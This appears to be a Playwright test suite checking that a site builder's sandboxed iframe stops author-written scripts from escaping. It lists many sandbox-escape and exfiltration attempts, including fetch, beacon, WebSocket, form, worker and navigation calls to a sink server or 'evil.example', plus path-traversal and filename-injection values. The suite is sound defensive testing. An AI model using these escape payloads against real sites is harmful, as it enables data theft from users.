import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { compile } from '#core/engine/document/compile.ts';
import { readDocument } from '#core/engine/document/read-document.ts';
import type { Blueprint } from '#core/engine/blueprint/schema.ts';
import { serveSite, type ServedSite } from '../support/serve-site.ts';

// A trace would put scripts of its own into the frame, which refuses them.
test.use({ trace: 'off' });

/** A site with a friendly part, a public entity, and one that nobody may read; `js` takes the place of the part's code. */
const DOCUMENT = `
{"site":{"name":"Club"}}
{"pages":[{"id":"home","path":"/","title":"Home"},{"id":"next","path":"/next","title":"Next"}]}
{"entity":"score","label":"Score","plural":"Scores","icon":"trophy","fields":["name:text!# Name","points:int! Points"],"access":{"read":"public","create":"public"}}
{"entity":"secret","label":"Secret","plural":"Secrets","icon":"lock","fields":["name:text!# Name"],"access":{"read":"public","create":"nobody"}}
{"block":"play","page":"home","type":"custom","title":"Play","options":{"part":"p"},"uses":[{"entity":"score","can":["read","create"]}]}
{"block":"list","page":"home","type":"collection","variant":"table","title":"Scores","query":"score"}
{"block":"other","page":"next","type":"richtext","title":"Next","text":"Elsewhere"}
{"rows":"score","cols":["name","points"],"data":[["Ada",3]]}
{"rows":"secret","cols":["name"],"data":[["Vault"]]}
{"part":"p","html":"<p id='out'>waiting</p><button id='b'>Play</button>","js":""}
`;

/** Attacks that an author could write. Static checks are passed by: only the frame is asked here. */
function siteWith(js: string): Blueprint {
  const { blueprint } = compile(readDocument(DOCUMENT).document);
  return { ...blueprint, parts: { p: { ...blueprint.parts?.['p'], js } } };
}

let sink: Server;
let sinkUrl = '';
let reached: string[] = [];
let served: ServedSite | null = null;

test.beforeAll(async () => {
  sink = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('ok');
  });
  sink.listen(0, '127.0.0.1');
  await once(sink, 'listening');
  const address = sink.address();
  sinkUrl = `http://localhost:${typeof address === 'object' && address ? address.port : 0}`;
});
test.afterAll(() => void sink.close());
test.afterEach(() => {
  served?.close();
  served = null;
  reached = [];
});

async function open(page: Page, js: string): Promise<void> {
  served = await serveSite(siteWith(js.replaceAll('SINK', sinkUrl)));
  await page.goto(served.url);
}

const out = (page: Page) => page.frameLocator('.part iframe').locator('#out');
const SAY = `const say = (words) => { document.getElementById('out').textContent = words; };`;

test('a part reads and writes what it was granted, and the other blocks of the page follow', async ({ page }) => {
  await open(
    page,
    `${SAY} say(site.rows.score.map((row) => row.values.name).join()); document.getElementById('b').onclick = async () => {
      const row = await site.create('score', { name: 'Ben', points: 5 }); say(row.values.name + row.mine); site.say('Kept'); };`,
  );
  await expect(out(page)).toHaveText('Ada');
  await page.frameLocator('.part iframe').getByRole('button').click();
  await expect(out(page)).toHaveText('Bentrue');
  await expect(page.locator('.part-said')).toHaveText('Kept');
  await expect(page.locator('#list').getByText('Ben')).toBeVisible();
});

test('no address is reached by any way out of the frame', async ({ page }) => {
  const tries: Readonly<Record<string, string>> = {
    fetch: `await fetch('SINK/fetch')`,
    beacon: `navigator.sendBeacon('SINK/beacon'); await new Promise((done) => setTimeout(done, 300)); throw 0`,
    socket: `await new Promise((done, fail) => { const s = new WebSocket('SINK/socket'.replace('http', 'ws')); s.onopen = done; s.onerror = fail; })`,
    image: `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = 'SINK/image'; })`,
    style: `document.body.style.background = 'url(SINK/style)'; await new Promise((done) => setTimeout(done, 300)); throw 0`,
    sheet: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'SINK/sheet'; document.head.append(l); throw 0`,
    hint: `document.body.innerHTML += '<link rel="preconnect" href="SINK/hint">'`,
    script: `const s = document.createElement('script'); s.src = 'SINK/script'; document.body.append(s); throw 0`,
    frame: `const f = document.createElement('iframe'); f.src = 'SINK/frame'; document.body.append(f); throw 0`,
    nested: `document.body.innerHTML += '<iframe srcdoc="x"></iframe>'`,
    unusual: `document.body.append(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'x:iframe').documentElement)`,
    form: `const f = document.createElement('form'); f.action = 'SINK/form'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((done) => setTimeout(done, 300)); throw 0`,
    worker: `new Worker(URL.createObjectURL(new Blob(["fetch('SINK/worker')"]))); await new Promise((done) => setTimeout(done, 300)); throw 0`,
    evaluate: `eval('1')`,
    rtc: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:localhost:9' }] })`,
    popup: `if (!window.open('SINK/popup')) throw 0`,
    top: `top.location.href = 'SINK/top'`,
    parent: `parent.document.title`,
    cookie: `document.cookie`,
    storage: `localStorage.length`,
    worker2: `await navigator.serviceWorker.register('/x.js')`,
    ungranted: `await site.list('secret')`,
    forbidden: `await site.remove('score', 'x')`,
    path: `await site.get('score', '../secret/x')`,
    download: `const a = document.createElement('a'); a.href = 'SINK/file'; a.download = 'x.txt'; document.body.append(a); a.click(); throw 0`,
    away: `await site.go('https://evil.example')`,
  };
  for (const [name, code] of Object.entries(tries)) {
    await open(
      page,
      `${SAY} const tried = (async () => { ${code}; return 'won'; })().catch(() => 'lost');
       say(await Promise.race([tried, new Promise((done) => setTimeout(() => done('nothing came'), 1000))]));`,
    );
    // Some ways end the part at once; none leads out.
    const isStopped = () => page.evaluate(() => document.querySelector('.part.stopped') !== null);
    const told = async () =>
      (await isStopped())
        ? 'stopped'
        : await out(page)
            .textContent({ timeout: 2000 })
            .catch(() => 'stopped');
    await expect.poll(told, { message: name }).not.toBe('waiting');
    expect.soft([name, await told()]).not.toEqual([name, 'won']);
    expect([name, page.url()]).toEqual([name, `${served?.url}/`]);
    expect([name, reached]).toEqual([name, []]);
    served?.close();
  }
});

test('a frame that navigates is taken out, and nothing was asked for', async ({ page }) => {
  for (const away of ['SINK/away', 'about:blank', 'data:text/html,hello']) {
    await open(page, `location.href = '${away}?' + JSON.stringify(site.rows);`);
    await expect(page.locator('.part')).toHaveClass(/stopped|part/);
    await expect.poll(() => page.frames().filter((frame) => frame.url().startsWith('http')).length).toBe(1);
    await page.waitForFunction(() => document.readyState === 'complete');
    served?.close();
  }
  expect(reached).toEqual([]);
});

test('a flood of messages ends the part, and the page stays', async ({ page }) => {
  await open(
    page,
    `for (;;) { for (let i = 0; i < 500; i += 1) site.say('flood'); await new Promise((done) => setTimeout(done, 10)); }`,
  );
  await expect(page.locator('.part')).toHaveAttribute('data-why', 'flood');
  await expect(page.getByText('not working right now')).toBeVisible();
  await page.locator('#list').getByText('Ada').click();
});

test('files and paper come after a click on the part, a file of a plain kind and under a plain name', async ({ page }) => {
  // Each look of a test into the page counts as a gesture: it says itself when there is one.
  await page.addInitScript(
    `Object.defineProperty(navigator, 'userActivation', { get: () => ({ isActive: window.clicked === true }) })`,
  );
  await open(
    page,
    `${SAY} const link = document.createElement('a'); link.download = 'photo.PNG'; link.textContent = 'Link'; link.href = 'data:image/png;base64,iVBORw0KGgo=';
     const note = Object.assign(document.createElement('a'), { download: 'note.txt', textContent: 'Note', href: 'data:text/plain,100% sure%21' });
     const printer = Object.assign(document.createElement('button'), { textContent: 'Print' });
     printer.onclick = async () => say((await Promise.all([site.print(), site.print()].map(code))).join());
     document.body.append(link, note, printer);
     const code = (work) => work.then(() => 'won', (error) => error.code);
     say(await code(site.download('early.txt', 'text/plain', 'x')));
     document.getElementById('b').onclick = async () => { say((await Promise.all([
       site.download('../../a/b:c.csv', 'text/csv', 'a,b'), site.download('again.txt', 'text/plain', 'x'), site.download('page.html', 'text/html', '<script>'),
       site.download('big.txt', 'text/plain', 'x'.repeat(10_000_001)), site.download('x.txt', 'text/plain', {})].map(code))).join()); };`,
  );
  await expect(out(page)).toHaveText('NOT_NOW');
  const part = page.frameLocator('.part iframe');
  await page.evaluate('window.clicked = true');
  await page.locator('#list').click();
  await part.getByRole('button', { name: 'Play' }).evaluate((button: HTMLElement) => button.click());
  await expect(out(page), 'a click elsewhere is none of the part').toHaveText(
    'NOT_NOW,NOT_NOW,BAD_REQUEST,TOO_LARGE,BAD_REQUEST',
  );
  const first = page.waitForEvent('download');
  await part.getByRole('button', { name: 'Play' }).click();
  const file = await first;
  expect([file.suggestedFilename(), await readFile(await file.path(), 'utf8')]).toEqual(['a-b-c.csv', 'a,b']);
  await expect(out(page)).toHaveText('won,NOT_NOW,BAD_REQUEST,TOO_LARGE,BAD_REQUEST');
  await page.waitForTimeout(1100);
  const second = page.waitForEvent('download');
  await part.getByText('Link').click();
  expect((await second).suggestedFilename()).toBe('photo.png');
  await page.waitForTimeout(1100);
  const third = page.waitForEvent('download');
  await part.getByText('Note').click();
  expect(await readFile(await (await third).path(), 'utf8')).toBe('100% sure!');
  await page.waitForTimeout(1100);
  await part.getByText('Print').click();
  await expect(out(page)).toHaveText('won,NOT_NOW');
});

test('many writes at once are slowed down', async ({ page }) => {
  await open(
    page,
    `${SAY} const all = await Promise.allSettled(Array.from({ length: 60 }, (_, i) => site.create('score', { name: 'x' + i, points: i })));
     say(all.filter((each) => each.reason?.code === 'TOO_MANY').length > 20 ? 'slowed' : 'free');`,
  );
  await expect(out(page)).toHaveText('slowed');
});

test('an endless loop leaves the page usable and is taken out', async ({ page }) => {
  await open(page, `${SAY} say('looping'); await new Promise((done) => setTimeout(done, 300)); for (;;);`);
  await expect(page.locator('#list').getByText('Ada')).toBeVisible();
  expect(await page.evaluate(() => new Promise<boolean>((done) => setTimeout(() => done(true), 500)))).toBe(true);
  await expect(page.locator('.part')).toHaveAttribute('data-why', 'silent');
  await expect(page.locator('.part iframe')).toHaveCount(0);
});

test('a frame covers nothing of the page, however large it wants to be', async ({ page }) => {
  await open(
    page,
    `site.resize(1e9); const cover = document.createElement('div'); cover.style.cssText = 'position:fixed;inset:-9999px;z-index:2147483647;background:red'; document.body.append(cover);`,
  );
  await expect.poll(() => page.locator('.part iframe').evaluate((frame) => frame.getBoundingClientRect().height)).toBe(2400);
  const covered = await page.evaluate(() => {
    const box = document.querySelector('.part')?.getBoundingClientRect();
    const header = document.querySelector('header')?.getBoundingClientRect();
    const at = document.elementFromPoint(20, 20)?.closest('header') !== null;
    return { at, apart: (header?.bottom ?? 1) <= (box?.top ?? 0) };
  });
  expect(covered).toEqual({ at: true, apart: true });
});

test('a part that breaks becomes a quiet card', async ({ page }) => {
  for (const js of ['throw new Error("no")', 'const broken = [;']) {
    await open(page, js);
    await expect(page.getByText('not working right now')).toBeVisible();
    await expect(page.locator('.part iframe')).toHaveCount(0);
    served?.close();
  }
});
